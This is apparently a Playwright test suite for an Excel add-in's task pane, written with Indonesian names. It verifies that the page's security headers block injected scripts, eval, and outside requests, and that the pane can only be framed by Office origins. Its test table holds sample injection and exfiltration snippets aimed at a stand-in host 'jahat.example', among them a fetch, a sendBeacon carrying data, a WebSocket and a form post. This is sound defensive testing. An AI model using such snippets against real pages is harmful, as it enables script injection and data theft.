import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { BrowserContext, Frame } from "playwright-core";
import { tajukDariNginx } from "../bangun/tajuk-terpasang";
import { bukaPeramban, type Peramban } from "./halaman";

jest.setTimeout(120_000);

const root = join(__dirname, "../..");
const panel = join(root, "dist-pratinjau/panel");
const officeJs = join(root, "node_modules/@microsoft/office-js/dist");
const cdn = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const jenis: Record<string, string> = { html: "text/html", js: "text/javascript", png: "image/png" };

interface Uji {
  readonly context: BrowserContext;
  /** What the policy forbade, console errors and requests to others, in the order in which they happened. */
  readonly keluhan: string[];
}

/** A browser for which the built pages come with exactly the headers of the file for nginx, and office.js from its CDN. */
async function siapkan({ alamat, browser }: Peramban): Promise<Uji> {
  const context = await browser.newContext({ locale: "id-ID", viewport: { width: 1366, height: 768 } });
  const keluhan: string[] = [];
  const nginx = readFileSync(join(panel, "tajuk-nginx.conf"), "utf8");
  const jawab = (folder: string, path: string, headers: Record<string, string>) => ({
    body: readFileSync(join(folder, path)),
    headers: { ...headers, "Content-Type": jenis[path.split(".").at(-1)!] ?? "application/octet-stream" },
  });
  await context.route("**", (route) => {
    const url = new URL(route.request().url());
    if (url.href.startsWith(`${alamat}panel/`)) {
      const path = url.pathname.slice("/panel".length);
      return route.fulfill(jawab(panel, path, tajukDariNginx(nginx, path)));
    }
    if (url.href.startsWith(cdn)) return route.fulfill(jawab(officeJs, url.href.slice(cdn.length).split("?")[0]!, {}));
    if (url.href.startsWith(alamat) || ["blob:", "data:"].includes(url.protocol)) return route.continue();
    keluhan.push(`request: ${url.href}`);
    return route.abort();
  });
  // In the page before its own scripts, as Excel's window would be; only the preview's grid is not under the policy.
  const wadah = readFileSync(join(root, "dist-pratinjau/wadah.js"), "utf8");
  await context.addInitScript(`if (location.pathname.startsWith("/panel/")) {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      (window.pelanggaran ??= []).push(effectiveDirective + " " + blockedURI));
    ${wadah}
  }`);
  context.on("console", (pesan) => {
    if (pesan.type() === "error") keluhan.push(`console: ${pesan.text()}`);
  });
  context.on("weberror", (galat) => keluhan.push(`error: ${galat.error().message}`));
  return { context, keluhan };
}

const pelanggaran = (frame: Frame) =>
  frame.evaluate(() => (window as unknown as { pelanggaran?: string[] }).pelanggaran ?? []);

describe("the built pages with the headers they are to be served with", () => {
  let peramban: Peramban;
  let uji: Uji;
  beforeAll(async () => {
    peramban = await bukaPeramban();
  });
  afterAll(() => peramban.tutup());
  beforeEach(async () => {
    uji = await siapkan(peramban);
  });
  afterEach(() => uji.context.close());

  async function bukaPanel() {
    const page = await uji.context.newPage();
    await page.goto(peramban.alamat);
    const isi = page.frameLocator("#panel");
    await isi.getByRole("button", { name: "Hitung Capaian" }).waitFor();
    const frame = page.frames().find((satu) => satu.url().includes("/panel/taskpane.html"))!;
    return { page, isi, frame };
  }

  test("pane and ribbon do their work, and nothing they do is forbidden", async () => {
    const { page, isi, frame } = await bukaPanel();
    const jawaban = await uji.context.request.get(frame.url());
    expect(jawaban.status()).toBe(200);
    await isi.getByRole("button", { name: "Hitung Capaian" }).click();
    await isi.getByText(/sel diperbarui di \d+ lembar/).waitFor();
    for (const tab of await isi.getByRole("tab").all()) {
      await tab.click();
      await isi.getByRole("tabpanel").first().waitFor();
    }
    await isi.getByRole("button", { name: "Urungkan" }).click();
    const pita = page.getByRole("region", { name: "Pita LKj" });
    await pita.getByRole("button", { name: "Panel" }).click();
    await page.locator("#wadah-panel").waitFor({ state: "hidden" });
    await pita.getByRole("button", { name: "Hitung Capaian" }).click();
    const jendela = page.frameLocator("dialog iframe");
    await jendela.getByText(/sel diperbarui di \d+ lembar/).waitFor();
    const halaman = page.frames().filter((satu) => satu.url().includes("/panel/"));
    expect(halaman.length).toBeGreaterThanOrEqual(2);
    for (const satu of halaman) expect([satu.url(), await pelanggaran(satu)]).toEqual([satu.url(), []]);
    expect(uji.keluhan).toEqual([]);
  });

  const jahat = "https://jahat.example";
  const percobaan: readonly (readonly [nama: string, arahan: string, kode: string])[] = [
    ["an inline script", "script-src-elem inline", "tambah('script', { textContent: 'window.bobol = true' })"],
    [
      "an inline handler",
      "script-src-attr inline",
      "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.bobol = true\">')",
    ],
    ["code made of text", "script-src eval", "eval('window.bobol = true')"],
    ["a function made of text", "script-src eval", "new Function('window.bobol = true')()"],
    ["a script of another site", `script-src-elem ${jahat}/x.js`, `tambah('script', { src: '${jahat}/x.js' })`],
    ["a script as data", "script-src-elem data", "tambah('script', { src: 'data:text/javascript,window.bobol=true' })"],
    ["an inline style", "style-src-elem inline", "tambah('style', { textContent: 'body { background: red }' })"],
    ["a request to another site", `connect-src ${jahat}/x`, `fetch('${jahat}/x').then(() => { window.bobol = true; })`],
    [
      "a request to the page's own site",
      "connect-src ",
      "fetch('/panel/manifest.xml').then(() => { window.bobol = true; })",
    ],
    ["a beacon", `connect-src ${jahat}/x`, `navigator.sendBeacon('${jahat}/x', 'isi')`],
    ["a socket", "connect-src wss://jahat.example", "new WebSocket('wss://jahat.example')"],
    ["a picture of another site", `img-src ${jahat}/x.png`, `tambah('img', { src: '${jahat}/x.png' })`],
    ["a frame of another site", `frame-src ${jahat}`, `tambah('iframe', { src: '${jahat}/' })`],
    ["a form sent away", `form-action ${jahat}/`, `tambah('form', { action: '${jahat}/' }).submit()`],
    ["another base for addresses", `base-uri ${jahat}`, `tambah('base', { href: '${jahat}/' })`],
    ["a worker made of text", "worker-src blob", "new Worker(URL.createObjectURL(new Blob(['0'])))"],
  ];

  test.each(percobaan)("%s is refused", async (_nama, arahan, kode) => {
    const page = await uji.context.newPage();
    await page.goto(`${peramban.alamat}panel/taskpane.html`);
    const frame = page.mainFrame();
    // In a task of its own: what a debugger calls is let off the policy.
    const tambah =
      "const tambah = (n, s) => { const e = Object.assign(document.createElement(n), s); document.body.append(e); return e; };";
    await frame.evaluate(`setTimeout(() => { ${tambah} try { ${kode} } catch {} }); 0`);
    await frame.waitForFunction(() => ((window as unknown as { pelanggaran?: string[] }).pelanggaran ?? []).length > 0);
    expect((await pelanggaran(frame)).join("\n")).toContain(arahan);
    expect(await frame.evaluate(() => "bobol" in window)).toBe(false);
    expect(uji.keluhan.filter((satu) => satu.startsWith("request"))).toEqual([]);
  });

  /** Opens pages one in the other, the outermost first and the pane innermost; true where the pane was let in. */
  async function dibingkai(...luar: readonly string[]): Promise<boolean> {
    const { context } = uji;
    const rantai = [...luar, `${peramban.alamat}panel/taskpane.html`];
    for (const [ke, alamat] of luar.entries()) {
      const body = `<!doctype html><iframe src="${rantai[ke + 1]!}"></iframe>`;
      await context.route(alamat, (route) => route.fulfill({ body, contentType: "text/html" }));
    }
    const page = await context.newPage();
    await page.goto(luar[0]!);
    const terdalam = page.frames().at(-1)!;
    await terdalam.waitForLoadState();
    return (await terdalam.locator("#panel").count()) === 1;
  }

  const excelWeb = "https://sgp-excel.officeapps.live.com/x";

  test.each([
    ["Excel on the web in SharePoint", ["https://dinas.sharepoint.com/x", excelWeb]],
    ["Excel on the web in OneDrive", ["https://onedrive.live.com/x", excelWeb]],
    ["Excel on the web by its newer name", ["https://excel.cloud.microsoft/x", excelWeb]],
  ])("%s may show the pane", async (_nama, luar) => {
    expect(await dibingkai(...luar)).toBe(true);
  });

  test.each([
    ["another site", [jahat]],
    ["another site around Excel on the web", [jahat, excelWeb]],
    ["a site that is named alike", ["https://officeapps.live.com.jahat.example"]],
    ["Office without encryption", ["http://sgp-excel.officeapps.live.com/x"]],
  ])("%s may not", async (_nama, luar) => {
    expect(await dibingkai(...luar.map((satu) => (satu.endsWith("/x") ? satu : `${satu}/`)))).toBe(false);
  });
});
